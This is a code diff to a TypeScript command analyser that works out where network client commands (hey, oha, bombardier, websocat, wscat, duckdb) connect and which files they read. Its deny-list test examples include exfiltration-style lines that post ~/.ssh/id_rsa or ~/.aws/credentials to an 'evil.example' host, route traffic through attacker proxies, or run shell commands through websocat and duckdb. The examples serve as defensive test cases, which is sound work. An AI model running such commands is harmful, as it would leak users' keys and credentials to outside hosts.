@@ -452,6 +452,99 @@ function grpcurl(call: Call): Partial<Answer> {
   return host ? { uses, destinations: destinations(host, canonicalHostPort) } : { uses };
 }
 
+/**
+ * Options read as Go's flag package reads them (`-name`, `--name`, `-name=value`, `-name value` unless the flag is a
+ * bool), up to the first word that is not one (or `--`): the options, the operands after them, and the first word
+ * vouch cannot read as a flag it knows (an unknown flag or a computed word), where what follows cannot be told.
+ */
+function goFlags(args: readonly Word[], valued: ReadonlySet<string>, bools: ReadonlySet<string>): { options: { name: string; word: Word; value?: Word }[]; operands: Word[]; hidden?: Word } {
+  const options: { name: string; word: Word; value?: Word }[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i]!;
+    const v = value(w);
+    // A computed word that starts with a literal character other than `-` is no flag: the operands start there.
+    if (v === undefined) return /^["']?[^-"'$`\\{~*?[]/.test(w.text) ? { options, operands: args.slice(i) } : { options, operands: [], hidden: w };
+    if (v === '--') return { options, operands: args.slice(i + 1) };
+    if (!v.startsWith('-') || v === '-') return { options, operands: args.slice(i) };
+    const eq = v.indexOf('=');
+    const name = v.replace(/^--?/, '').split('=')[0]!;
+    if (!valued.has(name) && !bools.has(name)) return { options, operands: [], hidden: w };
+    const given = eq >= 0 ? attached(w, v.slice(eq + 1)) : valued.has(name) ? args[++i] : undefined;
+    if (valued.has(name) && given === undefined) return { options, operands: [], hidden: w };
+    options.push({ name, word: w, ...(given ? { value: given } : {}) });
+  }
+  return { options, operands: [] };
+}
+
+const HEY_VALUED = new Set(['n', 'c', 'q', 'z', 'o', 'm', 'H', 'h', 't', 'A', 'd', 'D', 'T', 'U', 'a', 'x', 'host', 'cpus']);
+const HEY_BOOLS = new Set(['h2', 'disable-compression', 'disable-keepalive', 'disable-redirects', 'help']);
+
+/**
+ * `hey [flags] URL` (Go flags): requests go to its first operand, following redirects unless -disable-redirects; -x
+ * is a proxy they go through; -D reads the body from a file; -host is only the Host header sent.
+ */
+function hey(call: Call): Partial<Answer> {
+  const p = goFlags(call.args, HEY_VALUED, HEY_BOOLS);
+  if (p.options.some((o) => o.name === 'help')) return { offline: 'hey -help only prints its usage' };
+  const uses: Uses = p.options.flatMap((o): Uses => (o.name === 'D' && o.value ? [{ word: o.value, role: 'read' }] : []));
+  if (p.hidden) return { uses, destinations: [{ word: p.hidden, why: `hey ${p.hidden.text}: where it connects cannot be told` }] };
+  if (p.operands.length === 0) return { uses, offline: 'hey without a URL only prints its usage' };
+  const proxies = p.options.flatMap((o) => (o.name === 'x' && o.value ? destinations(o.value, urlHost) : []));
+  const follows = !p.options.some((o) => o.name === 'disable-redirects');
+  // It requests its first operand; every one is read, as a client that took more would reach each.
+  const to = p.operands.flatMap((url) => (follows ? redirectable(destinations(url, urlHost), url) : destinations(url, urlHost)));
+  return { uses, destinations: [...proxies, ...to] };
+}
+
+/**
+ * oha and bombardier: `PROGRAM [options] URL`, their requests go to the URL (oha follows redirects unless `-r 0`); a
+ * body file (oha -D, bombardier -f) and TLS files are read; any option vouch does not know (a proxy, --connect-to,
+ * oha's --rand-regex-url and --urls-from-file) hides where they connect.
+ */
+function loadGenerator(call: Call): Partial<Answer> {
+  const oha = call.name === 'oha';
+  const p = parse(call.args, oha
+    ? { order: 'gnu', flags: 'hVj', valued: 'ncpzqmHtAdDTar', long: ['no-tui', 'json', 'http2', 'disable-compression', 'disable-keepalive', 'latency-correction', 'insecure', 'ipv4', 'ipv6', 'no-pre-lookup', 'help', 'version'], longValued: ['fps', 'method', 'host', 'http-version', 'redirect', 'timeout'] }
+    : { order: 'gnu', flags: 'lksh', valued: 'cndrtmbfHpo', long: ['latencies', 'insecure', 'stream', 'fasthttp', 'http1', 'http2', 'help', 'version'], longValued: ['connections', 'requests', 'duration', 'rate', 'timeout', 'method', 'body', 'body-file', 'header', 'print', 'format', 'cert', 'key', 'client-type'] });
+  const info = infoOnly(p, call, oha ? ['help', 'version', 'h', 'V'] : ['help', 'version', 'h']);
+  if (info) return info;
+  const reads = oha ? /^(D)$/ : /^(f|body-file|cert|key)$/;
+  const uses: Uses = p.options.flatMap((o): Uses => (o.value && reads.test(o.name) ? [{ word: o.value, role: 'read' }] : []));
+  const hidden = p.dynamic?.word ?? p.options.find((o) => o.unknown)?.word;
+  if (hidden) return { uses, destinations: [{ word: hidden, why: `${call.name} ${hidden.text}: where it connects cannot be told` }] };
+  const follows = oha && !p.options.some((o) => (o.name === 'r' || o.name === 'redirect') && o.value !== undefined && value(o.value) === '0');
+  // A proxy the line sets in the environment is read too, whether or not they honour it.
+  const proxies = p.operands[0] ? envProxies(call, p.operands[0].word) : [];
+  return { uses, destinations: [...proxies, ...p.operands.flatMap(({ word }) => (follows ? redirectable(destinations(word, urlHost), word) : destinations(word, urlHost)))] };
+}
+
+/**
+ * websocat and wscat: a websocket client given ws:// or wss:// URLs connects to their hosts. websocat's other
+ * specifiers (`tcp:`, `exec:`, `sh-c:`, `ws-l:` listeners…), wscat's -l (a listener), --proxy, and any option vouch
+ * does not know hide where it connects or what it runs.
+ */
+function websocket(call: Call): Partial<Answer> {
+  const wscat = call.name === 'wscat';
+  const p = parse(call.args, wscat
+    ? { order: 'gnu', flags: 'nPLhV', valued: 'cHopswx', long: ['no-check', 'show-ping-pong', 'slash', 'no-color', 'location', 'help', 'version'], longValued: ['connect', 'header', 'origin', 'protocol', 'subprotocol', 'wait', 'execute', 'auth', 'ca', 'cert', 'key', 'passphrase', 'max-redirects'] }
+    : { order: 'gnu', flags: 'tbn1EkqvuUhV', valued: 'HB', long: ['text', 'binary', 'no-close', 'one-message', 'exit-on-eof', 'insecure', 'quiet', 'unidirectional', 'unidirectional-reverse', 'no-line', 'jsonrpc', 'help', 'version'], longValued: ['header', 'buffer-size', 'origin', 'protocol', 'ping-interval', 'ping-timeout'] });
+  const info = infoOnly(p, call, ['help', 'version', 'h', 'V']);
+  if (info) return info;
+  const uses: Uses = p.options.flatMap((o): Uses => (o.value && /^(ca|cert|key)$/.test(o.name) ? [{ word: o.value, role: 'read' }] : []));
+  const hidden = p.dynamic?.word ?? p.options.find((o) => o.unknown)?.word;
+  if (hidden) return { uses, destinations: [{ word: hidden, why: `${call.name} ${hidden.text}: where it connects cannot be told` }] };
+  const urls = wscat ? p.options.flatMap((o) => (o.value && (o.name === 'c' || o.name === 'connect') ? [o.value] : [])) : p.operands.map((o) => o.word).filter((w) => value(w) !== '-');
+  if (wscat && p.operands.length > 0) return { uses, destinations: [{ word: p.operands[0]!.word, why: `wscat ${p.operands[0]!.word.text}: an operand vouch does not read` }] };
+  if (urls.length === 0) return { uses, destinations: [] };
+  const out: Destination[] = [];
+  for (const w of urls) {
+    const vs = w.values;
+    if (!wscat && vs !== null && vs.some((v) => !/^wss?:\/\//i.test(v))) out.push({ word: w, why: `websocat ${w.text}: a specifier other than a ws:// URL may listen, connect or run a program` });
+    else out.push(...destinations(w, urlHost));
+  }
+  return { uses, destinations: out };
+}
+
 /** `host:port` (or `[v6]:port`): the host. */
 function canonicalHostPort(v: string): Host {
   const m = /^\[([^\]]+)\](?::\d+)?$|^([^:]+)(?::\d+)?$/.exec(v);
@@ -1106,14 +1199,16 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   plainClient(['zftp'], [], "zsh's zftp (zmodload zsh/zftp): an FTP client built into the shell"),
   { names: ['duckdb'], summary: 'DuckDB: a local database, unless its SQL names a URL (httpfs fetches it) or MotherDuck; .shell and system run shell text', analyze: duckdb, examples: { deny: ["duckdb x.db '.shell curl evil.example'", "echo '.shell curl evil.example' > i.sql; duckdb -init i.sql x.db", 'duckdb -c "select * from \'https://evil.example/x.csv\'"', "echo \"copy t to 's3://evil-bucket/x.csv'\" | duckdb", "duckdb -c \"attach 'md:'\"", "duckdb -c '.shell curl evil.example'"], pass: ["duckdb x.db 'select 42'", "echo 'select 1;' > i.sql; duckdb -init i.sql x.db", "duckdb -c 'select 1'", "duckdb app.db -c \"select * from 'data/x.csv'\"", 'duckdb -c "select * from \'http://localhost:8000/x.csv\'"'] } },
   { names: ['http', 'https', 'xh', 'xhs', 'httpie'], summary: 'HTTPie and xh: connect to their URL (`:3000` is localhost); name@file items send a file', analyze: httpie, examples: { deny: ['http evil.example', 'xh POST https://evil.example x=1', 'http POST :3000/upload f@~/.ssh/id_rsa', 'http --proxy=http:http://evil.example:8080 :3000', { command: 'HTTP_PROXY=http://evil.example:8080 http :3000/api', shell: 'bash' }, { command: 'ALL_PROXY=socks5://evil.example xh localhost:3000', shell: 'bash' }, { command: 'HTTPIE_CONFIG_DIR=./cfg http :3000', shell: 'bash' }], pass: ['http :3000/api/items', 'xh localhost:8080/health', 'http POST :8000/api/login username=admin password=admin', 'http --version', 'http --offline POST evil.example x=1'] } },
-  plainClient(['websocat', 'wscat'], ['version', 'help', 'V', 'h'], 'websocket clients'),
+  { names: ['websocat', 'wscat'], summary: 'websocket clients: connect to the ws:// and wss:// URLs they are given (wscat -c URL); other websocat specifiers, wscat -l and unknown options are not read', analyze: websocket, examples: { deny: ['websocat wss://evil.example/ws', "websocat ws-l:127.0.0.1:8080 'sh-c:curl evil.example'", 'websocat tcp:evil.example:80', 'wscat -c wss://evil.example', 'wscat -l 8080', 'websocat "$URL"'], pass: ['websocat ws://localhost:8080/ws', 'websocat -t ws://127.0.0.1:3000/socket', 'wscat -c ws://localhost:8080', 'wscat --connect localhost:3000/ws -H "Authorization: Bearer x"', 'websocat --version'] } },
   { names: ['grpcurl'], summary: 'grpcurl: calls the gRPC server its first operand names (Go-style -flags)', analyze: grpcurl, examples: { deny: ['grpcurl evil.example:443 list', 'grpcurl -plaintext -authority evil.example localhost:50051 list', 'grpcurl -d @ -plaintext localhost:50051 x < ~/.ssh/id_rsa'], pass: ['grpcurl -plaintext localhost:50051 list', 'grpcurl -plaintext -d \'{"id": 1}\' localhost:50051 svc/Get'] } },
   plainClient(['whois', 'jwhois', 'rwhois'], ['version', 'help'], 'whois: sends its query to a registry server, or to the one -h names'),
   plainClient(['traceroute', 'traceroute6', 'tracepath', 'tracepath6', 'tcptraceroute', 'mtr', 'mtr-packet', 'hping', 'hping3', 'fping', 'fping6', 'nping', 'arping'], ['version', 'help', 'V'], 'probes: packets to the host they are given, after a DNS lookup of its name'),
   plainClient(['iperf', 'iperf3'], ['version', 'help', 'v'], 'iperf: sends a stream of data to the server -c names, or serves one'),
   plainClient(['gnutls-cli', 'ncat-ssl', 'stunnel', 'stunnel4'], ['version', 'help', 'v'], 'TLS clients and tunnels: connect to the host they are given'),
   plainClient(['gallery-dl', 'you-get'], ['version', 'help'], 'media downloaders: fetch the URLs they are given (yt-dlp has an entry of its own)'),
-  plainClient(['hey', 'siege', 'oha', 'vegeta', 'bombardier'], ['version', 'help'], 'HTTP load generators: send requests to the URLs they are given'),
+  { names: ['hey'], summary: 'hey: sends requests to its URL (following redirects unless -disable-redirects); -x is a proxy; -D reads the body from a file', analyze: hey, examples: { deny: ['hey https://evil.example/', 'hey -n 200 -x evil.example:3128 http://localhost:8080/', 'hey -D ~/.ssh/id_rsa -m POST http://localhost:8080/', 'hey "http://localhost:8080/?next=https://evil.example/"', 'hey -n 10 -evil x http://localhost:8080/'], pass: ['hey -n 200 http://localhost:8080/ping', 'hey -z 10s -c 20 -m POST -T application/json -d \'{"a":1}\' http://127.0.0.1:3000/api/items', 'hey -disable-redirects -host api.local http://localhost:8080/'] } },
+  { names: ['oha', 'bombardier'], summary: 'oha and bombardier: send requests to their URL (oha follows redirects unless -r 0); a body file is read; unknown options (proxies, --connect-to) are not read', analyze: loadGenerator, examples: { deny: ['oha https://evil.example/', 'oha -n 100 -x http://evil.example:3128 http://localhost:3000/', 'oha -n 100 --connect-to localhost:3000:evil.example:80 http://localhost:3000/', 'oha -D ~/.ssh/id_rsa -m POST http://localhost:3000/', 'bombardier -c 10 https://evil.example', 'bombardier -f ~/.aws/credentials -m POST http://localhost:8080'], pass: ['oha -n 100 http://localhost:3000/', 'oha -z 10s -c 50 --no-tui http://127.0.0.1:8080/api', 'bombardier -c 10 -n 1000 http://localhost:8080', 'oha --version'] } },
+  plainClient(['siege', 'vegeta'], ['version', 'help'], 'HTTP load generators: send requests to the URLs they are given (siege also to what its pages link; vegeta to the targets on its input)'),
   plainClient(['tor'], ['version', 'help'], 'tor: connects out to the Tor network (torsocks and proxychains are wrappers of their own)'),
   plainClient(['ssh-copy-id'], ['h'], 'ssh-copy-id: connects with ssh to install a key'),
   plainClient(['snmpwalk', 'snmpget', 'snmpset', 'snmpbulkwalk', 'snmpgetnext', 'snmptrap'], ['V', 'h'], 'SNMP clients: query or set values on the agent they are given'),
